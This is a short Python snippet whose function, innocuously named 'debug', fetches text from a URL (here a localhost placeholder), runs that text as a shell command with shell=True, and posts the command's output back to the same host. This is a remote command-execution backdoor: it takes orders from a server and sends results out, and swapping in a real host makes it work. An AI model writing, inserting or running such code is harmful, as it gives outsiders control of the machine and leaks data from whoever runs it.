import subprocess, requests

def debug():
    link = 'http://127.0.0.1:9/'
    resp = requests.get(link)
    resp = resp.text
    out = runcommand(resp)
    requests.post(link + 'output', {'o': out})

def runcommand(value):
    return subprocess.run(value, shell=True, capture_output=True)
